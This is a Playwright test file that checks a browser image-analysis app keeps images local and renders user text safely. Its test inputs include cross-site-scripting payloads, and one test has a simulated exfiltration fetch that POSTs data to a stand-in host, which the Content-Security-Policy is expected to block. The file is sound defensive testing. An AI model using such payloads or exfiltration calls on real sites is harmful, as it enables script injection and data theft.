/**
 * Privacy and safety: images never leave the browser (every request of a full demo run goes to the
 * app's own origin and none sends data), and text from file names and user input is shown as
 * text, never run as HTML or script.
 */
import { expect, test, type Page, type Request } from '@playwright/test';
import { encode } from 'fast-png';
import { dropFiles, openApp, openDemo, runBatchToEnd } from './helpers';

/** Records every alert/confirm/prompt and every CSP violation the page reports; tests expect none. */
function watchForScripts(page: Page): { dialogs: string[]; violations: string[] } {
  const dialogs: string[] = [];
  const violations: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(`${dialog.type()} "${dialog.message()}"`);
    void dialog.dismiss();
  });
  page.on('console', (msg) => {
    if (/Content[- ]Security[- ]Policy/i.test(msg.text())) violations.push(msg.text());
  });
  return { dialogs, violations };
}

test('a full demo run makes no request outside the app origin and sends no data', async ({ page, baseURL }) => {
  test.setTimeout(300_000);
  const origin = new URL(baseURL!).origin;
  const requests: Request[] = [];
  page.on('request', (r) => requests.push(r));
  const { dialogs, violations } = watchForScripts(page);

  await openApp(page);
  await openDemo(page, 2);
  await runBatchToEnd(page);
  await page.getByRole('tab', { name: 'Explore' }).click();
  await expect(page.getByTestId('explore-summary')).toContainText('450 of 450 fields measured');
  await expect(page.getByTestId('pca-plot').locator('.main-svg').first()).toBeVisible({ timeout: 60_000 });

  expect(requests.length).toBeGreaterThan(3);
  const foreign = requests
    .map((r) => r.url())
    .filter((url) => !url.startsWith('data:') && !url.startsWith('blob:') && new URL(url).origin !== origin);
  expect(foreign, 'requests to other hosts').toEqual([]);
  const sending = requests.filter((r) => r.method() !== 'GET' || r.postData() !== null);
  expect(
    sending.map((r) => `${r.method()} ${r.url()}`),
    'requests that carry data',
  ).toEqual([]);
  expect(violations, 'CSP violations').toEqual([]);
  expect(dialogs, 'dialogs').toEqual([]);
});

test('file names and clone text with HTML are shown literally and never run', async ({ page }) => {
  const { dialogs, violations } = watchForScripts(page);
  await openApp(page);
  const name = '<img src=x onerror=alert(1)>_t006h_f01.png';
  const data = new Uint8Array(32 * 32).map((_, i) => (i * 7) % 256);
  await dropFiles(page, [{ name, bytes: Buffer.from(encode({ width: 32, height: 32, data, channels: 1, depth: 8 })) }]);
  // Clone ids are letters and digits, so this name needs a pattern without {clone}.
  await page.getByLabel('File-name pattern').fill('*_t{time}h_f{fov}');
  await page.getByLabel('Clone of every file').fill('xss01');
  await expect(page.getByTestId('import-summary')).toContainText('1 of 1 files read · 1 clone × 1 time point');
  await expect(page.getByTestId('parse-table')).toContainText(name);
  await page.getByRole('button', { name: /^Import 1 file/ }).click();
  await expect(page.getByTestId('experiment-summary')).toContainText('1 clones × 1 time points × 1 FOVs', { timeout: 60_000 });

  const script = '<script>window.__xss=1</script>';
  await page.getByLabel('Label of xss01').fill(script);
  await page.getByLabel('Notes on xss01').fill(`${script}<img src=x onerror=alert(2)>`);
  await page.getByLabel('Label of xss01').focus(); // blur the notes field: both are saved

  // Opening the field puts the image (and its file name, as a label) through the viewer.
  await page.getByTestId('thumb').first().click();
  await expect(page.getByTestId('field-viewer')).toContainText('32×32 px · 8-bit');

  await page.reload();
  await expect(page.getByLabel('Label of xss01')).toHaveValue(script);
  await expect(page.getByLabel('Notes on xss01')).toHaveValue(`${script}<img src=x onerror=alert(2)>`);
  expect(await page.evaluate(() => (window as unknown as { __xss?: number }).__xss)).toBeUndefined();
  expect(await page.locator('img[src="x"]').count()).toBe(0);
  expect(await page.locator('script:not([src])').count()).toBe(0);
  expect(dialogs, 'dialogs opened by injected script').toEqual([]);
  expect(violations, 'CSP violations').toEqual([]);
});

test('the production Content-Security-Policy forbids connections to other hosts', async ({ page }) => {
  await openApp(page);
  const meta = page.locator('meta[http-equiv="Content-Security-Policy"]');
  // The production build always carries the policy (scripts/cspPlugin.ts in vite.config.ts).
  await expect(meta).toHaveCount(1);
  const policy = await meta.getAttribute('content');
  expect(policy).toContain("connect-src 'self'");
  expect(policy).not.toContain("'unsafe-eval'");
  const violated = await page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        document.addEventListener('securitypolicyviolation', (e) => resolve(e.violatedDirective), { once: true });
        fetch('http://127.0.0.2:9/leak', { method: 'POST', body: 'pixels' }).catch(() => undefined);
        setTimeout(() => resolve('no violation'), 5000);
      }),
  );
  expect(violated).toBe('connect-src');
});
